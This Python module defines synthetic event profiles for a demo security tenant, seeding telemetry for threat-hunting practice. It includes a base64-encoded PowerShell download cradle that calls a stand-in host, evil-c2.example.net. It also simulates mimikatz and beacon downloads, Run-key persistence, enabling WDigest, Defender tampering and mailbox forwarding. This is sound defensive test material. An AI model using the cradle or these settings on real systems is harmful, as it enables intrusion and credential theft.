"""Value tables of the synthetic tenant: event profiles.

One row of a profile table fixes the columns that must agree. ``weight`` is its share; ``{user}``,
``{n}`` and ``{host}`` in templates become the row's account, a small number and another device.
Weights of suspicious rows are small so demo hunts find a handful per day. The small ``_proc``,
``_mail``... helpers only spell a profile row.
"""

from __future__ import annotations

import base64
from typing import Any

_STAGE2 = "IEX (New-Object Net.WebClient).DownloadString('http://evil-c2.example.net/stage2.ps1')"
#: PowerShell's -EncodedCommand takes base64 of UTF-16LE text.
ENCODED_STAGE2 = base64.b64encode(_STAGE2.encode("utf-16-le")).decode("ascii")

SYS32 = "C:\\Windows\\System32\\"
_PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def _dest(
    url: str, ip: str, port: int, proto: str, proc: str, weight: int, kind: str = "out"
) -> dict[str, Any]:
    return {"url": url, "ip": ip, "port": port, "proto": proto, "proc": proc, "kind": kind, "weight": weight}


#: DeviceNetworkEvents: ``kind`` ``out`` (public), ``internal`` (to another device), ``in`` (from one).
NETWORK_DESTINATIONS: tuple[dict[str, Any], ...] = (
    _dest("login.microsoftonline.com", "20.190.151.68", 443, "Tcp", "msedge.exe", 60),
    _dest("outlook.office365.com", "52.96.165.18", 443, "Tcp", "OUTLOOK.EXE", 60),
    _dest("teams.microsoft.com", "52.113.194.132", 443, "Tcp", "ms-teams.exe", 50),
    _dest("contoso.sharepoint.com", "13.107.136.9", 443, "Tcp", "msedge.exe", 40),
    _dest("www.google.com", "142.250.74.36", 443, "Tcp", "chrome.exe", 50),
    _dest("github.com", "140.82.121.4", 443, "Tcp", "git.exe", 20),
    _dest("ctldl.windowsupdate.com", "93.184.221.240", 80, "Tcp", "svchost.exe", 30),
    _dest("settings-win.data.microsoft.com", "20.42.65.92", 443, "Tcp", "svchost.exe", 30),
    _dest("wdcp.microsoft.com", "20.10.31.115", 443, "Tcp", "MsMpEng.exe", 20),
    _dest("time.windows.com", "168.61.215.74", 123, "Udp", "svchost.exe", 10),
    _dest("", "", 445, "Tcp", "System", 40, "internal"),
    _dest("", "", 88, "Tcp", "lsass.exe", 30, "internal"),
    _dest("", "", 389, "Tcp", "lsass.exe", 20, "internal"),
    _dest("", "", 3389, "Tcp", "mstsc.exe", 5, "internal"),
    _dest("", "", 445, "Tcp", "System", 20, "in"),
    _dest("", "", 3389, "Tcp", "svchost.exe", 5, "in"),
    _dest("", "", 5985, "Tcp", "svchost.exe", 3, "in"),
    # Sites the tenant's mail links to: clicks in UrlClickEvents show up here as browser connections.
    _dest("news.fabrikam.example", "198.51.100.30", 443, "Tcp", "msedge.exe", 8),
    _dest("billing.fabrikam.example", "198.51.100.31", 443, "Tcp", "msedge.exe", 4),
    _dest("tailspintoys.example", "198.51.100.40", 443, "Tcp", "msedge.exe", 4),
    _dest("downloads.tailspintoys.example", "198.51.100.41", 443, "Tcp", "chrome.exe", 2),
    _dest("deals.example.net", "198.51.100.140", 80, "Tcp", "msedge.exe", 1),
    _dest("login.micros0ft-security.example", "203.0.113.45", 443, "Tcp", "msedge.exe", 1),
    _dest("sharepoint-files.example", "203.0.113.46", 443, "Tcp", "msedge.exe", 1),
    _dest("evil-c2.example.net", "203.0.113.66", 443, "Tcp", "rundll32.exe", 2),
    _dest("cdn.evilupdate.example.com", "198.51.100.23", 8080, "Tcp", "powershell.exe", 1),
    _dest("malware-drop.example.org", "203.0.113.10", 80, "Tcp", "certutil.exe", 1),
    _dest("", "203.0.113.99", 4444, "Tcp", "powershell.exe", 1),
)

#: Outbound connection outcomes (inbound rows are always ``InboundConnectionAccepted``).
NETWORK_ACTIONS: tuple[str, ...] = ("ConnectionSuccess",) * 17 + (
    "ConnectionFailed",
    "ConnectionFailed",
    "ConnectionAttempt",
)


def _file(
    name: str, folder: str, proc: str, weight: int, *, origin: str = "", account: str = "user"
) -> dict[str, Any]:
    return {
        "name": name,
        "folder": folder,
        "proc": proc,
        "origin": origin,
        "account": account,
        "weight": weight,
    }


_USER_HOME = "C:\\Users\\{user}\\"
#: DeviceFileEvents: file name and folder templates and the process that wrote them.
FILE_PROFILES: tuple[dict[str, Any], ...] = (
    _file("Q{n}-report.docx", _USER_HOME + "Documents\\", "WINWORD.EXE", 30),
    _file("budget-{n}.xlsx", _USER_HOME + "Documents\\", "EXCEL.EXE", 25),
    _file(
        "invoice_{n}.pdf",
        _USER_HOME + "Downloads\\",
        "msedge.exe",
        15,
        origin="https://billing.fabrikam.example/invoices",
    ),
    _file(
        "setup-{n}.msi",
        _USER_HOME + "Downloads\\",
        "chrome.exe",
        5,
        origin="https://downloads.tailspintoys.example/setup",
    ),
    _file("~WRL{n}.tmp", _USER_HOME + "AppData\\Local\\Temp\\", "WINWORD.EXE", 40),
    _file(
        "f_{n}",
        _USER_HOME + "AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Cache\\Cache_Data\\",
        "msedge.exe",
        60,
    ),
    _file("{n}.etl", "C:\\Windows\\System32\\LogFiles\\WMI\\", "svchost.exe", 40, account="system"),
    _file(
        "agent-{n}.log", "C:\\ProgramData\\Contoso\\Agent\\Logs\\", "ContosoAgent.exe", 30, account="system"
    ),
    _file(
        "mimikatz.exe",
        _USER_HOME + "Downloads\\",
        "msedge.exe",
        1,
        origin="http://malware-drop.example.org/mimikatz_trunk.zip",
    ),
    _file(
        "beacon.dll", "C:\\Users\\Public\\", "certutil.exe", 1, origin="http://evil-c2.example.net/beacon.dll"
    ),
    _file("invoice_{n}.pdf.exe", _USER_HOME + "Downloads\\", "OUTLOOK.EXE", 1),
    _file("README-DECRYPT.txt", _USER_HOME + "Documents\\", "svch0st.exe", 1),
)
FILE_ACTIONS: tuple[str, ...] = (
    ("FileCreated",) * 12 + ("FileModified",) * 5 + ("FileDeleted",) * 2 + ("FileRenamed",)
)

_AUTH_PASS = '{"SPF":"pass","DKIM":"pass","DMARC":"pass","CompAuth":"pass"}'
_AUTH_FAIL = '{"SPF":"fail","DKIM":"none","DMARC":"fail","CompAuth":"fail"}'
_AUTH_INTERNAL = '{"SPF":"pass","DKIM":"pass","DMARC":"pass","CompAuth":"other"}'


def _mail(
    kind: str,
    sender: str,
    name: str,
    subject: str,
    url: str,
    weight: int,
    *,
    ip: str = "40.107.22.55",
    threats: str = "",
    action: str = "Delivered",
    location: str = "Inbox/folder",
    auth: str = _AUTH_PASS,
    methods: str = "",
    bcl: int = 0,
) -> dict[str, Any]:
    return {
        "kind": kind,
        "sender": sender,
        "sender_name": name,
        "subject": subject,
        "url": url,
        "ip": ip,
        "threats": threats,
        "action": action,
        "location": location,
        "auth": auth,
        "methods": methods,
        "bcl": bcl,
        "weight": weight,
    }


_PHISH_URL = "https://login.micros0ft-security.example/verify?u={n}"
#: EmailEvents: ``kind`` ``inbound`` (sender below, recipient a user), ``outbound`` (a user to the
#: sender below), ``intra`` (user to user).
EMAIL_PROFILES: tuple[dict[str, Any], ...] = (
    _mail("inbound", "newsletter@news.fabrikam.example", "Fabrikam News", "Your weekly digest #{n}", "https://news.fabrikam.example/digest/{n}", 20, bcl=6),
    _mail("inbound", "billing@fabrikam.example", "Fabrikam Billing", "Invoice {n} from Fabrikam", "https://billing.fabrikam.example/invoices/{n}", 6),
    _mail("inbound", "billing@fabrikam.example", "Fabrikam Billing", "Invoices attached", "https://billing.fabrikam.example/invoices", 3),
    _mail("inbound", "noreply@github.com", "GitHub", "[contoso/platform] PR #{n}: fix flaky test", "https://github.com/contoso/platform/pull/{n}", 15, ip="192.30.252.205"),
    _mail("inbound", "partner@tailspintoys.example", "Tailspin Toys", "Re: Contract renewal {n}", "https://tailspintoys.example/contracts/{n}", 15),
    _mail("inbound", "promo@deals.example.net", "Deals", "You won a {n} dollar gift card", "http://deals.example.net/claim/{n}", 6, ip="198.51.100.140", threats="Spam", action="Junked", location="Junk folder", auth=_AUTH_FAIL, methods='{"Spam":["Mixed analysis detection"]}', bcl=8),
    _mail("inbound", "it-support@micros0ft-security.example", "IT Support", "Action required: verify your mailbox", _PHISH_URL, 2, ip="203.0.113.45", threats="Phish", auth=_AUTH_FAIL, methods='{"Phish":["URL malicious reputation"]}'),
    _mail("inbound", "it-support@micros0ft-security.example", "IT Support", "Action required: verify your mailbox", _PHISH_URL, 2, ip="203.0.113.45", threats="Phish", action="Blocked", location="Quarantine", auth=_AUTH_FAIL, methods='{"Phish":["URL detonation reputation"]}'),
    _mail("inbound", "docs@sharepoint-files.example", "SharePoint", "{user} shared 'Payroll Q{n}' with you", "https://sharepoint-files.example/s/payroll-{n}", 1, ip="203.0.113.46", threats="Phish", auth=_AUTH_FAIL, methods='{"Phish":["Impersonation brand"]}'),
    _mail("inbound", "accounts@fabrikam-billing.example", "Accounts Payable", "Overdue invoice {n}", "http://malware-drop.example.org/invoice-{n}", 1, ip="198.51.100.77", threats="Malware, Phish", action="Blocked", location="Quarantine", auth=_AUTH_FAIL, methods='{"Malware":["File detonation"],"Phish":["URL detonation"]}'),
    _mail("outbound", "partner@tailspintoys.example", "Tailspin Toys", "Re: Contract renewal {n}", "https://contoso.sharepoint.com/sites/sales/contract-{n}", 15, ip="40.107.22.60"),
    _mail("intra", "", "", "Team sync notes {n}", "https://contoso.sharepoint.com/sites/team/notes-{n}", 15, ip="", auth=_AUTH_INTERNAL),
)  # fmt: skip

#: EmailAttachmentInfo: attachment names by whether the message carried malware.
ATTACHMENTS_CLEAN: tuple[tuple[str, str], ...] = (
    ("invoice-{n}.pdf", "pdf"),
    ("contract-{n}.docx", "docx"),
    ("forecast-{n}.xlsx", "xlsx"),
    ("photo-{n}.png", "png"),
)
ATTACHMENTS_MALWARE: tuple[tuple[str, str], ...] = (
    ("invoice_{n}.pdf.exe", "exe"),
    ("Remittance-{n}.html", "html"),
)


def _logon(
    action: str,
    logon_type: str,
    proto: str,
    account: str,
    remote: str,
    weight: int,
    *,
    failure: str = "",
    proc: str = "lsass.exe",
) -> dict[str, Any]:
    return {
        "action": action,
        "logon_type": logon_type,
        "proto": proto,
        "failure": failure,
        "account": account,
        "remote": remote,
        "proc": proc,
        "weight": weight,
    }


#: DeviceLogonEvents: ``account`` ``user`` (a tenant user) or a local account name as spelt in the
#: logs (case variants on purpose); ``remote`` ``none``, ``internal`` or an attacker IP.
LOGON_PROFILES: tuple[dict[str, Any], ...] = (
    _logon("LogonSuccess", "Interactive", "Negotiate", "user", "none", 30, proc="winlogon.exe"),
    _logon("LogonSuccess", "Unlock", "Negotiate", "user", "none", 15, proc="winlogon.exe"),
    _logon("LogonSuccess", "CachedInteractive", "Negotiate", "user", "none", 3, proc="winlogon.exe"),
    _logon("LogonSuccess", "RemoteInteractive", "Negotiate", "user", "internal", 5),
    _logon("LogonSuccess", "Network", "Kerberos", "user", "internal", 20),
    _logon("LogonSuccess", "Service", "Negotiate", "svc-backup", "none", 6, proc="services.exe"),
    _logon("LogonSuccess", "Batch", "Negotiate", "svc-sql", "none", 3, proc="svchost.exe"),
    _logon("LogonFailed", "Network", "NTLM", "user", "internal", 6, failure="InvalidUserNameOrPassword"),
    _logon("LogonFailed", "Interactive", "Negotiate", "user", "none", 4, failure="InvalidUserNameOrPassword", proc="winlogon.exe"),
    _logon("LogonFailed", "Network", "NTLM", "administrator", "203.0.113.50", 3, failure="InvalidUserNameOrPassword"),
    _logon("LogonFailed", "RemoteInteractive", "NTLM", "Administrator", "203.0.113.50", 2, failure="InvalidUserNameOrPassword"),
    _logon("LogonFailed", "Network", "NTLM", "ADMINISTRATOR", "203.0.113.51", 1, failure="InvalidUserNameOrPassword"),
    _logon("LogonFailed", "Network", "NTLM", "admin", "203.0.113.51", 1, failure="UserNameDoesNotExist"),
    _logon("LogonSuccess", "Network", "NTLM", "administrator", "203.0.113.50", 1),
    _logon("LogonAttempted", "RemoteInteractive", "Negotiate", "user", "internal", 1),
)  # fmt: skip


def _devent(
    action: str,
    weight: int,
    *,
    file: str = "",
    folder: str = "",
    url: str = "",
    proc: str = "",
    extra: str = "",
    ip: str = "",
    port: int = 0,
    origin: str = "",
    registry: tuple[str, str, str] = ("", "", ""),
) -> dict[str, Any]:
    """``ip`` ``dc`` is a domain controller (``RemoteDeviceName`` too); ``origin`` a download URL;
    ``registry`` the key, value name and data a tampering attempt touched."""
    return {
        "action": action,
        "file": file,
        "folder": folder,
        "url": url,
        "proc": proc,
        "extra": extra,
        "ip": ip,
        "port": port,
        "origin": origin,
        "reg_key": registry[0],
        "reg_name": registry[1],
        "reg_data": registry[2],
        "weight": weight,
    }


#: DeviceEvents: the miscellaneous sensor events; AdditionalFields carries the details.
DEVICE_EVENT_PROFILES: tuple[dict[str, Any], ...] = (
    _devent("DnsQueryResponse", 20, proc="svchost.exe", extra='{"DnsQueryString":"login.microsoftonline.com","DnsQueryResult":[{"DnsQueryType":"A","Address":"20.190.151.68"}]}'),
    _devent("PowerShellCommand", 15, proc="powershell.exe", extra='{"Command":"Get-Service"}'),
    _devent("PowerShellCommand", 2, proc="powershell.exe", extra='{"Command":"Invoke-WebRequest"}'),
    _devent("NamedPipeEvent", 10, proc="chrome.exe", extra='{"PipeName":"\\\\Device\\\\NamedPipe\\\\mojo.{n}","FileOperation":"File opened"}'),
    _devent("ScheduledTaskCreated", 6, proc="svchost.exe", extra='{"TaskName":"\\\\Microsoft\\\\Windows\\\\UpdateOrchestrator\\\\Schedule Scan"}'),
    _devent("ScheduledTaskCreated", 1, proc="schtasks.exe", extra='{"TaskName":"\\\\OneDrive Update","TaskContent":"C:\\\\Users\\\\Public\\\\updater.exe"}'),
    _devent("BrowserLaunchedToOpenUrl", 10, url="https://contoso.sharepoint.com/sites/team/notes-{n}", proc="OUTLOOK.EXE"),
    _devent("UsbDriveMounted", 3, proc="svchost.exe", extra='{"DriveLetter":"E:","ProductName":"Ultra","Manufacturer":"SanDisk","SerialNumber":"4C530001{n}"}'),
    _devent("SmartScreenUrlWarning", 1, url="https://login.micros0ft-security.example/verify?u={n}", proc="msedge.exe", extra='{"Experience":"Phishing"}', ip="203.0.113.45", port=443),
    _devent("ExploitGuardNetworkProtectionBlocked", 1, url="evil-c2.example.net", proc="rundll32.exe", extra='{"ResponseCategory":"CustomBlockList"}', ip="203.0.113.66", port=443),
    _devent("AntivirusDetection", 1, file="mimikatz.exe", folder="C:\\Users\\{user}\\Downloads\\mimikatz.exe", proc="explorer.exe", extra='{"ThreatName":"HackTool:Win32/Mimikatz.D","WasRemediated":true,"WasExecutingWhileDetected":false}'),
    _devent("AntivirusDetection", 1, file="setup-{n}.exe", folder="C:\\Users\\{user}\\Downloads\\setup-{n}.exe", proc="chrome.exe", extra='{"ThreatName":"PUA:Win32/Presenoker","WasRemediated":true,"WasExecutingWhileDetected":false}', origin="https://downloads.tailspintoys.example/setup"),
    _devent("AsrOfficeChildProcessBlocked", 1, file="powershell.exe", folder=_PS, proc="WINWORD.EXE", extra='{"IsAudit":false}'),
    _devent("OpenProcessApiCall", 1, file="lsass.exe", folder=SYS32 + "lsass.exe", proc="mimikatz.exe", extra='{"DesiredAccess":5136}'),
    _devent("LdapSearch", 2, proc="powershell.exe", extra='{"SearchFilter":"(objectCategory=computer)","AttributeList":["name","operatingSystem"]}', ip="dc", port=389),
    _devent("UserAccountCreated", 1, proc="net.exe", extra='{"AccountName":"helpdesk-tmp"}'),
    _devent("TamperingAttempt", 1, proc="reg.exe", extra='{"TamperingAction":"RegistryModification","Status":"Blocked","Target":"DisableAntiSpyware"}', registry=("HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender", "DisableAntiSpyware", "1")),
)  # fmt: skip

RUN_KEY = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"


def _reg(action: str, key: str, name: str, vtype: str, data: str, proc: str, weight: int) -> dict[str, Any]:
    return {
        "action": action,
        "key": key,
        "name": name,
        "vtype": vtype,
        "data": data,
        "proc": proc,
        "weight": weight,
    }


#: DeviceRegistryEvents.
REGISTRY_PROFILES: tuple[dict[str, Any], ...] = (
    _reg("RegistryValueSet", "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs", "MRUListEx", "Binary", "", "explorer.exe", 20),
    _reg("RegistryValueSet", "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\bam\\State\\UserSettings", "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe", "Binary", "", "svchost.exe", 20),
    _reg("RegistryValueSet", "HKEY_CURRENT_USER\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities", "LastSyncTime", "Qword", "{n}", "OUTLOOK.EXE", 10),
    _reg("RegistryValueSet", RUN_KEY, "OneDrive", "String", '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background', "OneDriveSetup.exe", 4),
    _reg("RegistryKeyCreated", "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\S-1-5-18\\Products\\{n}", "", "", "", "msiexec.exe", 4),
    _reg("RegistryKeyDeleted", "HKEY_CURRENT_USER\\Software\\Classes\\Local Settings\\MuiCache\\{n}", "", "", "", "svchost.exe", 3),
    _reg("RegistryValueDeleted", "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FeatureUsage\\AppSwitched", "{n}", "", "", "explorer.exe", 3),
    _reg("RegistryValueSet", RUN_KEY, "Updater", "String", "C:\\Users\\Public\\updater.exe", "powershell.exe", 1),
    _reg("RegistryValueSet", "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest", "UseLogonCredential", "Dword", "1", "reg.exe", 1),
    _reg("RegistryKeyCreated", "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\PSEXESVC", "", "", "", "services.exe", 1),
)  # fmt: skip

#: DeviceImageLoadEvents: (dll, folder, loading process, weight).
IMAGE_LOAD_PROFILES: tuple[dict[str, Any], ...] = tuple(
    {"file": dll, "folder": folder, "proc": proc, "weight": weight}
    for dll, folder, proc, weight in (
        ("ntdll.dll", SYS32, "svchost.exe", 20),
        ("kernelbase.dll", SYS32, "chrome.exe", 15),
        ("combase.dll", SYS32, "OUTLOOK.EXE", 10),
        ("mso.dll", "C:\\Program Files\\Common Files\\Microsoft Shared\\Office16\\", "WINWORD.EXE", 10),
        ("clr.dll", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\", "powershell.exe", 8),
        ("System.Management.Automation.ni.dll", "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\", "powershell.exe", 8),
        ("winhttp.dll", SYS32, "msedge.exe", 8),
        ("samlib.dll", SYS32, "mimikatz.exe", 1),
        ("vaultcli.dll", SYS32, "mimikatz.exe", 1),
        ("wininet.dll", SYS32, "rundll32.exe", 1),
    )
)  # fmt: skip


def _idlogon(
    action: str, app: str, logon_type: str, proto: str, ip: str, weight: int, *, failure: str = ""
) -> dict[str, Any]:
    return {
        "action": action,
        "app": app,
        "logon_type": logon_type,
        "proto": proto,
        "ip": ip,
        "failure": failure,
        "weight": weight,
    }


#: IdentityLogonEvents: ``ip`` ``internal`` (the user's device), ``office`` (egress) or an attacker IP.
IDENTITY_LOGON_PROFILES: tuple[dict[str, Any], ...] = (
    _idlogon("LogonSuccess", "Active Directory", "Resource access", "Kerberos", "internal", 40),
    _idlogon("LogonSuccess", "Active Directory", "Credentials validation", "Ntlm", "internal", 10),
    _idlogon(
        "LogonFailed",
        "Active Directory",
        "Credentials validation",
        "Ntlm",
        "internal",
        5,
        failure="WrongPassword",
    ),
    _idlogon("LogonSuccess", "Microsoft 365", "Login:login", "", "office", 20),
    _idlogon(
        "LogonFailed",
        "Microsoft 365",
        "Login:login",
        "",
        "203.0.113.50",
        4,
        failure="InvalidUserNameOrPassword",
    ),
    _idlogon("LogonSuccess", "Microsoft 365", "Login:login", "", "203.0.113.50", 1),
)

#: IdentityDirectoryEvents: (action, protocol, AdditionalFields, weight).
DIRECTORY_PROFILES: tuple[dict[str, Any], ...] = tuple(
    {"action": action, "proto": proto, "extra": extra, "weight": weight}
    for action, proto, extra, weight in (
        ("Account Password changed", "Samr", '{"TARGET_OBJECT.USER":"{user}"}', 20),
        ("Group Membership changed", "Ldap", '{"TO.GROUP":"Finance Share Readers","TARGET_OBJECT.USER":"{user}"}', 10),
        ("Account Unlock changed", "Ldap", '{"TARGET_OBJECT.USER":"{user}"}', 5),
        ("Account enabled", "Ldap", '{"TARGET_OBJECT.USER":"{user}"}', 3),
        ("Group Membership changed", "Ldap", '{"TO.GROUP":"Domain Admins","TARGET_OBJECT.USER":"{user}"}', 1),
        ("Directory Services replication", "Drsr", '{"SourceDevice":"{host}","ReplicatedObjects":"krbtgt"}', 1),
        ("SMB file copy", "Smb", '{"FileName":"PSEXESVC.exe","FilePath":"ADMIN$"}', 1),
    )
)  # fmt: skip


def _cloud(
    action: str,
    app: str,
    app_id: int,
    activity: str,
    obj_type: str,
    obj: str,
    weight: int,
    *,
    ip: str = "office",
) -> dict[str, Any]:
    return {
        "action": action,
        "app": app,
        "app_id": app_id,
        "activity": activity,
        "obj_type": obj_type,
        "obj": obj,
        "ip": ip,
        "weight": weight,
    }


_EXO = ("Microsoft Exchange Online", 20893)
_SPO = ("Microsoft SharePoint Online", 20892)
#: CloudAppEvents.
CLOUD_APP_PROFILES: tuple[dict[str, Any], ...] = (
    _cloud("FileAccessed", *_SPO, "Read", "File", "/sites/team/Shared Documents/notes-{n}.docx", 20),
    _cloud("FileDownloaded", "Microsoft OneDrive for Business", 15600, "Download", "File", "/personal/{user}/Documents/budget-{n}.xlsx", 10),
    _cloud("MailItemsAccessed", *_EXO, "Read", "Mailbox", "{user}@contoso.com", 20),
    _cloud("Send", *_EXO, "Send", "Email", "Re: Contract renewal {n}", 10),
    _cloud("MessageSent", "Microsoft Teams", 11394, "Send", "Chat", "chat-{n}", 10),
    _cloud("FileDeleted", *_SPO, "Delete", "File", "/sites/team/Shared Documents/old-{n}.pptx", 3),
    _cloud("New-InboxRule", *_EXO, "Create", "Mailbox rule", "Forward to archive", 1, ip="198.51.100.77"),
    _cloud("Set-Mailbox", *_EXO, "Edit", "Mailbox", "ForwardingSmtpAddress=smtp:collector@outlook-mail.example", 1, ip="198.51.100.77"),
)  # fmt: skip
